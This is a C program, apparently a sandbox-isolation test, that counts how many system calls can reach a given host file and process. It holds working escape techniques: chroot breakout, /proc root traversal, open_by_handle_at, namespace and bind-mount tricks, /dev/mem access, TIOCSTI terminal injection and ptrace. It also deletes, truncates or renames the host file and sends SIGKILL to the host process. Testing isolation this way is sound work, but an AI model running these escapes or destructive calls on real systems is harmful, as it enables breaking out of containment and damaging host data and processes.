// Tries to reach a file and a process of the host by every call that names one. argv[1] is the file's path on the host,
// argv[2] the process's id there.
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <unistd.h>

static int files, processes;

static void try(const char *path) {
    char full[4096];
    static const char *prefixes[] = {"", "/..", "/../../../..", "/proc/self/root", "/proc/self/cwd/../../../..", "/proc/1/root",
                                     "/proc/self/task/../root/..", "/dev/fd/../../../../..", "link", "/proc/self/fd/9/../../../.."};
    for (unsigned i = 0; i < sizeof prefixes / sizeof prefixes[0]; i++) {
        snprintf(full, sizeof full, "%s%s", prefixes[i], path);
        int fd = open(full, O_RDONLY);
        if (fd >= 0) files++, close(fd);
        struct stat st;
        if (stat(full, &st) == 0) files++;
        if (truncate(full, 1) == 0) files++;
        if (chmod(full, 0777) == 0) files++;
        if (unlink(full) == 0) files++;
        if (rename(full, "stolen") == 0) files++;
        if (link(full, "linked") == 0) files++;
    }
}

int main(int argc, char **argv) {
    const char *path = argv[1];
    pid_t other = atoi(argv[2]);
    symlink("/../../../../..", "link");
    mkdir("jail", 0777);
    try(path);
    int top = open("/", O_RDONLY | O_DIRECTORY);
    char up[4096];
    snprintf(up, sizeof up, "../../../../..%s", path);
    if (openat(top, up, O_RDONLY) >= 0) files++;
    // The way out of a chroot.
    if (chroot("jail") == 0) {
        for (int i = 0; i < 40; i++) chdir("..");
        chroot(".");
        try(path);
    }
    fchdir(top);
    // Directories that were open before, and descriptors of the host.
    for (int fd = 0; fd < 64; fd++) {
        if (openat(fd, path + 1, O_RDONLY) >= 0 && fd > 2) files++;
        char name[64];
        snprintf(name, sizeof name, "/proc/self/fd/%d", fd);
        char target[4096];
        int n = readlink(name, target, sizeof target - 1);
        if (n > 0 && (target[n] = 0, strcmp(target, path) == 0)) files++;
    }
    unsigned char handle[144] = {8};
    if (syscall(SYS_open_by_handle_at, top, handle, O_RDONLY) >= 0) files++;
    if (mount("/", "jail", "", MS_BIND, "") == 0 || mount("proc", "jail", "proc", 0, "") == 0) files++;
    if (open("/dev/mem", O_RDWR) >= 0 || open("/dev/kmem", O_RDWR) >= 0 || open("/proc/kcore", O_RDONLY) >= 0) files++;
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0 && mount("/", "jail", "", MS_BIND | MS_REC, "") == 0) files++;

    if (kill(other, 0) == 0 || kill(other, SIGKILL) == 0) processes++;
    if (syscall(SYS_tgkill, other, other, SIGKILL) == 0 || syscall(SYS_tkill, other, SIGKILL) == 0) processes++;
    if (ptrace(PTRACE_ATTACH, other, 0, 0) == 0 || ptrace(PTRACE_SEIZE, other, 0, 0) == 0) processes++;
    long word;
    struct iovec here = {&word, 8}, there = {(void *)0x400000, 8};
    if (process_vm_readv(other, &here, 1, &there, 1, 0) >= 0 || process_vm_writev(other, &here, 1, &there, 1, 0) >= 0) processes++;
    if (syscall(SYS_pidfd_open, other, 0) >= 0) processes++;
    struct rlimit64 limit = {1, 1};
    if (syscall(SYS_prlimit64, other, RLIMIT_NOFILE, &limit, 0) == 0) processes++;
    if (setpriority(PRIO_PROCESS, other, 19) == 0) processes++;
    char name[64];
    snprintf(name, sizeof name, "/proc/%d/status", other);
    if (open(name, O_RDONLY) >= 0) processes++;
    // A terminal's input queue.
    if (isatty(0) && ioctl(0, 0x5412, "x") == 0) processes++;
    printf("host files %d, host processes %d\n", files, processes);
    return 0;
}
